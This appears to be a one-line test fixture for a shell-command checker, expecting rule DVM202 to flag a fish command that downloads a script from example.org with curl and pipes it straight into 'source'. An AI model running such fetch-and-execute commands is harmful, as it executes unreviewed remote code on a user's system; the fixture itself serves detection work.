# expect: DVM202
fish -c 'curl -fsSL https://example.org/i.sh | source'
